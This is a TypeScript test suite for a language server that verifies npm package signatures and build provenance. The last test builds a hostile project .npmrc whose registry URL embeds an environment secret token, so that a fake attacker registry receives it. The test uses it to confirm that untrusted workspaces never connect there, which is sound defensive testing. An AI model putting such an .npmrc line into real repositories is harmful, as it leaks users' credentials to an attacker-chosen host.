import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { DiagnosticSeverity, type Diagnostic } from 'vscode-languageserver-protocol/node';
import { verifyRequest, type VerifyResult } from '../../server/src/protocol';
import { fileUri, LspTestClient } from '../support/lsp-client';
import { provenanceWorkspace, TRUSTED_ROOT, UNRELATED_OSV_RECORD, type ProvenanceWorkspace } from '../support/provenance-workspace';
import { FIXTURE_LOCK_ENTRIES, REGRESSION_ENTRY, startRegistryServer, type RegistryMode, type RegistryServer } from '../support/registry-server';

const ATTESTED = FIXTURE_LOCK_ENTRIES.filter((e) => (e.name === 'sigstore' || e.name === 'tuf-js') && e.version === '1.0.0');
const SIGNED = FIXTURE_LOCK_ENTRIES.filter((e) => e.name === 'has-package-exports' && e.version === '1.3.0');
const text = (d: Diagnostic) => (typeof d.message === 'string' ? d.message : d.message.value);

describe('language server: signatures and provenance', function () {
  let registry: RegistryServer;
  let ws: ProvenanceWorkspace;
  let client: LspTestClient;

  async function start(mode: RegistryMode): Promise<void> {
    registry = await startRegistryServer({ mode });
    ws = provenanceWorkspace(registry.url, [...ATTESTED, ...SIGNED]);
    ws.write('osv/CHAINSIGHT-TEST-0001.json', UNRELATED_OSV_RECORD);
    client = await LspTestClient.start(ws.root, { osv: { offlineData: './osv' }, sigstore: { trustedRoot: TRUSTED_ROOT }, provenance: { enable: true } }, { env: ws.env });
    await client.waitForStatus((s) => s.provenance?.state === 'done');
  }

  afterEach(async () => {
    await client?.stop();
    await registry?.close();
    ws?.dispose();
  });

  async function hover(name: string): Promise<string> {
    const path = ws.path('package.json');
    const source = readFileSync(path, 'utf8').split('\n');
    const line = source.findIndex((l) => l.includes(`"${name}"`));
    const result = await client.hover(fileUri(path), { line, character: source[line]!.lastIndexOf('"') - 1 });
    return (result?.contents as { value: string }).value;
  }

  it('hovers show the verified signature and where the package was built, with links', async () => {
    await start('normal');
    const value = await hover('sigstore');
    assert.match(value, /Signature ✓ verified \(npm registry key SHA256:jl3b/);
    assert.match(value, /Provenance ✓ built by GitHub Actions from \[github\.com\/sigstore\/sigstore-js\]\(https:\/\/github\.com\/sigstore\/sigstore-js\) @ \[0652899\]\(https:\/\/github\.com\/sigstore\/sigstore-js\/commit\/0652899[0-9a-f]+\)/);
    assert.match(value, /\.github\/workflows\/publish\.yml, refs\/tags\/v1\.0\.0/);
    assert.match(value, /\[Rekor #\d+\]\(https:\/\/search\.sigstore\.dev\/\?logIndex=\d+\)/);
    assert.match(await hover('has-package-exports'), /Provenance — none published/);
    const status = client.statuses.at(-1)!;
    assert.deepEqual(status.provenance, { state: 'done', packages: 3, invalid: 0, signaturesVerified: 3, provenanceVerified: 2 });
  });

  it('a tampered integrity is an Error diagnostic on the lockfile entry and the manifest line', async () => {
    await start('tampered-integrity');
    const lock = await client.waitForDiagnostics(fileUri(ws.path('package-lock.json')), (d) => d.some((x) => x.code === 'signature-invalid'));
    const invalid = lock.filter((d) => d.code === 'signature-invalid');
    assert.deepEqual(invalid.map((d) => text(d).split(':')[0]).sort(), ['has-package-exports@1.3.0', 'sigstore@1.0.0']);
    assert.ok(invalid.every((d) => d.severity === DiagnosticSeverity.Error));
    assert.match(text(invalid[0]!), /invalid registry signature, possible tampering/);
    const manifest = client.diagnostics.get(fileUri(ws.path('package.json')))!;
    assert.equal(manifest.filter((d) => d.code === 'signature-invalid').length, 2);
  });

  it('a mirror that strips signatures is informational in the hover, never a diagnostic', async () => {
    await start('mirror');
    assert.match(await hover('sigstore'), /Signature — not provided by this registry/);
    assert.deepEqual(client.diagnostics.get(fileUri(ws.path('package-lock.json'))) ?? [], []);
  });

  it('a version without provenance after one with it is a regression warning', async () => {
    registry = await startRegistryServer({ mode: 'regression' });
    ws = provenanceWorkspace(registry.url, [REGRESSION_ENTRY]);
    ws.write('osv/CHAINSIGHT-TEST-0001.json', UNRELATED_OSV_RECORD);
    client = await LspTestClient.start(ws.root, { osv: { offlineData: './osv' }, sigstore: { trustedRoot: TRUSTED_ROOT }, provenance: { enable: true } }, { env: ws.env });
    const lock = await client.waitForDiagnostics(fileUri(ws.path('package-lock.json')), (d) => d.some((x) => x.code === 'provenance-regression'));
    const regression = lock.find((d) => d.code === 'provenance-regression')!;
    assert.equal(regression.severity, DiagnosticSeverity.Warning);
    assert.equal(text(regression), 'sigstore@1.0.1 has no provenance, but 1.0.0 had: check that this release came from the expected build');
    assert.match(await hover('sigstore'), /⚠ 1\.0\.1 has no provenance, 1\.0\.0 had/);
  });

  it('the audit request reports counts and rows like npm audit signatures', async () => {
    await start('normal');
    const result = await client.request<VerifyResult>(verifyRequest.method, {});
    assert.equal(result.summary.packages, 3);
    assert.equal(result.summary.invalid, 0);
    assert.deepEqual(result.rows.map((r) => [r.name, r.signature, r.provenance, r.source.split('@')[0]]), [
      ['has-package-exports', 'verified', 'none', ''],
      ['sigstore', 'verified', 'verified', 'github.com/sigstore/sigstore-js'],
      ['tuf-js', 'verified', 'verified', 'github.com/theupdateframework/tuf-js'],
    ]);
  });

  it('a repository .npmrc never chooses where the server connects until the workspace is trusted', async () => {
    registry = await startRegistryServer({ mode: 'normal' });
    const hostile = await startRegistryServer({ mode: 'normal' });
    try {
      ws = provenanceWorkspace(registry.url, [...ATTESTED, ...SIGNED], undefined, { projectNpmrc: `registry=${hostile.url}leak/\${SECRET_TOKEN}/\n`, env: { SECRET_TOKEN: 'from-the-environment' } });
      ws.write('osv/CHAINSIGHT-TEST-0001.json', UNRELATED_OSV_RECORD);
      // The user's own settings, as an editor without Workspace Trust passes them: they apply untrusted.
      const settings = { osv: { offlineData: './osv' }, sigstore: { trustedRoot: TRUSTED_ROOT }, provenance: { enable: true } };
      client = await LspTestClient.start(ws.root, settings, { env: ws.env, initializationOptions: { workspaceTrusted: false, settings: { chainsight: settings } } });
      const untrusted = await client.waitForStatus((s) => s.provenance?.state === 'done');
      assert.equal(hostile.requests.length, 0, hostile.requests.join('\n'));
      assert.equal(untrusted.provenance?.signaturesVerified, 3, "the user's own registry answered");

      const before = client.statuses.length;
      await client.setTrust(true);
      const checking = await client.waitForStatus((s) => s.provenance?.state === 'checking', before);
      await client.waitForStatus((s) => s.provenance?.state === 'done', client.statuses.indexOf(checking));
      assert.ok(hostile.requests.length > 0 && hostile.requests.every((r) => r.startsWith('GET /leak/from-the-environment/')), 'trusted: the project .npmrc, as npm reads it');
    } finally {
      await hostile.close();
    }
  });
});
